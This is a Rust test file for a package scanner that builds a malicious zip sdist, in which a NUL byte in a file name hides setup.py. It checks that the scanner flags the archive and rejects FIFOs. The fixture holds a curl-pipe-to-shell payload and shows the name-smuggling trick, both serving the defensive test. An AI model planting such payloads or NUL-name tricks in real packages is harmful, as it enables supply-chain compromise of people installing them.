//! Hostile inputs through the real binary: archives that pip reads
//! differently, files that are not regular, skipped files and exit codes.

use std::io::Write;
use std::path::Path;

use assert_cmd::Command;
use serde_json::Value;
use tempfile::TempDir;

fn assay(dir: &Path) -> Command {
    let mut command = Command::cargo_bin("assay").expect("binary");
    command.current_dir(dir).env_remove("NO_COLOR");
    command
}

/// A zip sdist whose `setup.py` entry is named `setup.py\0.txt`: pip cuts
/// the name at the NUL and runs `setup.py`.
fn nul_named_setup_py(dir: &Path) -> std::path::PathBuf {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    writer
        .start_file("demo-1.0/PKG-INFO", options)
        .expect("start");
    writer
        .write_all(b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
        .expect("write");
    writer
        .start_file("demo-1.0/setup.pyX.txt", options)
        .expect("start");
    writer
        .write_all(b"import os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n")
        .expect("write");
    let mut data = writer.finish().expect("zip").into_inner();
    let needle = b"setup.pyX.txt";
    let hits: Vec<usize> = (0..data.len().saturating_sub(needle.len()))
        .filter(|&at| data[at..].starts_with(needle))
        .collect();
    assert_eq!(hits.len(), 2, "local and central names");
    for at in hits {
        data[at + 8] = 0;
    }
    let path = dir.join("demo-1.0.zip");
    std::fs::write(&path, data).expect("write");
    path
}

#[test]
fn nul_in_zip_name_is_not_clean() {
    let dir = TempDir::new().expect("tempdir");
    let path = nul_named_setup_py(dir.path());
    let output = assay(dir.path())
        .args(["scan", "--format", "json", "--fail-on", "suspicious"])
        .arg(&path)
        .output()
        .expect("runs");
    let doc: Value = serde_json::from_slice(&output.stdout).expect("json");
    let artifact = &doc["artifacts"][0];
    assert_ne!(artifact["verdict"]["label"], "clean", "{artifact:#}");
    let rules: Vec<&str> = artifact["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(rules.contains(&"AY501"), "{rules:?}");
    assert_ne!(output.status.code(), Some(0));
}

#[test]
fn a_fifo_is_not_read_as_an_artifact() {
    let dir = TempDir::new().expect("tempdir");
    let fifo = dir.path().join("demo-1.0.tar.gz");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let output = assay(dir.path())
        .arg("scan")
        .arg(&fifo)
        .output()
        .expect("runs");
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stderr.contains("not a regular file") || stdout.contains("not a regular file"),
        "{stderr}{stdout}"
    );
}
